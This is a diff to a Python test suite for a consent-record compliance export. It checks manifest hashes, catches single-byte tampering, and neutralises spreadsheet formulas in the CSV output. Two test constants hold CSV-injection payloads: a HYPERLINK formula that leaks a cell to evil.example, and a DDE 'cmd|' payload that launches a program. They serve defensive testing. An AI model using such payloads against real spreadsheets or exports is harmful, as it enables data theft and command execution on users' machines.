@@ -22,6 +22,7 @@ from portal.compliance.export import (
     ExportFilter,
     canonical,
     data_chunks,
+    manifest_bytes,
     plan_export,
     restore,
 )
@@ -74,8 +75,16 @@ def test_export_then_verify_passes(app, engine, tmp_path, person, data_format):
     manifest = json.loads((out / "manifest.json").read_text())
     assert manifest["data"]["rows"] == 6
     assert manifest["data"]["columns"] == list(COLUMNS)
-    assert manifest["events"]["first"]["seq"] == 1
-    assert manifest["events"]["last"]["seq"] == 6
+    data_file = out / ("consent-events." + data_format)
+    assert manifest["data"]["sha256"] == hashlib.sha256(data_file.read_bytes()).hexdigest()
+    assert manifest["data"]["bytes"] == data_file.stat().st_size
+    with app.app_context():
+        chain = db.session.execute(
+            sa.text("SELECT seq, hash FROM consent_event ORDER BY seq")
+        ).all()
+    first, last = chain[0], chain[-1]
+    assert manifest["events"]["first"] == {"seq": 1, "hash": bytes(first.hash).hex()}
+    assert manifest["events"]["last"] == {"seq": 6, "hash": bytes(last.hash).hex()}
     assert manifest["exporter"]["kind"] == "command line"
     assert manifest["filters"]["from"] == manifest["filters"]["to"] == "2026-01-01"
     assert manifest["public_key"] == KEY.public.hex
@@ -224,6 +233,60 @@ def test_one_byte_changed_in_the_manifest_is_caught(app, bundle):
     assert "FAILED consent-events.csv: row count: 6 rows, the manifest says 5" in result.output
 
 
+# Each JSON space becomes another: the manifest means the same, so its signature holds.
+_OTHER_SPACE = {0x20: 0x09, 0x09: 0x0A, 0x0A: 0x0D, 0x0D: 0x20}
+
+
+def _other_byte(byte: int) -> int:
+    """What one byte becomes: another space for a space, else the byte with a bit flipped."""
+    return _OTHER_SPACE.get(byte, byte ^ 0x01)
+
+
+def test_any_one_byte_changed_in_the_manifest_is_caught_there(bundle):
+    path = bundle / "manifest.json"
+    original = path.read_bytes()
+    assert verify_bundle(bundle).ok
+    for offset, byte in enumerate(original):
+        path.write_bytes(original[:offset] + bytes([_other_byte(byte)]) + original[offset + 1 :])
+        report = verify_bundle(bundle)
+        assert not report.ok, (offset, chr(byte))
+        assert "manifest.json" in {p.file for p in report.problems}, (offset, report.problems)
+    path.write_bytes(original)
+    assert verify_bundle(bundle).ok
+
+
+def test_spacing_changed_in_the_manifest_is_located(app, bundle):
+    path = bundle / "manifest.json"
+    original = path.read_bytes()
+    offset = original.index(b'"rows": 6') + len(b'"rows":')
+    line = original.count(b"\n", 0, offset) + 1
+    path.write_bytes(original[:offset] + b"\t" + original[offset + 1 :])
+    result = _verify(app, bundle)
+    assert result.exit_code == 1
+    assert (
+        f"FAILED manifest.json: layout: byte {offset} (line {line}) is not what the exporter "
+        "wrote there: the file was edited after export" in result.output
+    )
+    assert "signature" not in result.output  # the content, and so the signature, is intact
+
+
+def test_any_one_byte_changed_in_the_data_is_caught_there(bundle):
+    path = bundle / "consent-events.csv"
+    original = path.read_bytes()
+    # The file's SHA-256 catches any byte by construction: every third byte and every line
+    # end are enough to show it, and that the problem is put on the data file.
+    ends = {i for i, byte in enumerate(original) if byte == 0x0A}
+    for offset in sorted(set(range(0, len(original), 3)) | ends):
+        byte = original[offset]
+        path.write_bytes(original[:offset] + bytes([byte ^ 0x01]) + original[offset + 1 :])
+        report = verify_bundle(bundle)
+        assert not report.ok, offset
+        assert "consent-events.csv" in {p.file for p in report.problems}, offset
+        assert all(p.file != "manifest.json" for p in report.problems), report.problems
+    path.write_bytes(original)
+    assert verify_bundle(bundle).ok
+
+
 def test_a_changed_policy_text_is_caught(app, bundle):
     _flip(bundle / "policies/v1.txt", b"choose", b"chose")
     result = _verify(app, bundle)
@@ -263,7 +326,7 @@ def _resign(bundle: Path, change) -> None:
     manifest["data"]["rows"] = len(rows) - 1
     manifest.pop("signature")
     manifest["signature"] = KEY.sign(canonical(manifest)).hex()
-    (bundle / "manifest.json").write_text(json.dumps(manifest))
+    (bundle / "manifest.json").write_bytes(manifest_bytes(manifest))
 
 
 def test_an_edited_event_fails_even_when_re_signed(app, bundle):
@@ -371,6 +434,59 @@ def test_formula_cells_are_neutralised(app, tmp_path, risky):
     assert [v["source"] for v in values] == RISKY_VALUES
     assert values[0]["topic_label"].startswith("=HYPERLINK(")
     assert _verify(app, nd).exit_code == 0
+
+
+HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+HOSTILE_AGENT = '@SUM(1+1)*cmd|" /C calc"!A0 Firefox/128.0'
+
+
+def test_formulas_typed_in_the_console_or_sent_by_a_browser_are_neutralised(
+    app, engine, tmp_path, subscriptions, officer, admin_browser, catalogue_ready
+):
+    """End to end: a topic label an admin typed, and a user agent a browser sent, reach
+    the downloaded CSV without starting a cell with anything a spreadsheet runs."""
+    from tests.compliance.conftest import subscribe
+
+    edited = admin_browser.post(
+        "/staff/admin/topics/weekly-digest/edit", {"label": HOSTILE_LABEL, "description": ""}
+    )
+    assert edited.status_code == 303
+    someone = subscribe(app, subscriptions, **{"User-Agent": HOSTILE_AGENT})
+    # A source is one of a fixed list: a formula is refused before anything is written.
+    refused = app.test_client().post(
+        "/api/push/preferences",
+        json={
+            "endpoint": someone.sub.endpoint,
+            "decisions": [{"slug": "offers", "state": "opt_in"}],
+            "policyVersion": "v1",
+            "decidedAt": "2026-01-01T00:00:00Z",
+            "source": "=1+1",
+        },
+        headers={"User-Agent": HOSTILE_AGENT},
+    )
+    assert refused.status_code == 422
+    assert refused.json["error"]["field"] == "source"
+
+    response = officer.post("/staff/compliance/export", _form())
+    assert response.status_code == 200
+    path = tmp_path / "export.zip"
+    path.write_bytes(response.get_data())
+    with zipfile.ZipFile(path) as archive:
+        (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
+        raw = archive.read(name).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert rows
+    for row in rows:
+        for column, cell in row.items():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
+    labels = {r["topic_label"] for r in rows if r["topic_slug"] == "weekly-digest"}
+    assert labels == {"'" + HOSTILE_LABEL}
+    assert restore("'" + HOSTILE_LABEL) == HOSTILE_LABEL
+    # The user agent is kept only as a family inside the context cell, never verbatim.
+    assert HOSTILE_AGENT not in raw and "cmd|" not in raw
+    clients = {json.loads(r["context"]).get("client") for r in rows if r["context"]}
+    assert clients == {"Firefox 128"}
+    assert verify_bundle(path, KEY.public).ok
 
 
 def test_no_secrets_or_endpoints_in_a_bundle(app, tmp_path, person, settings):
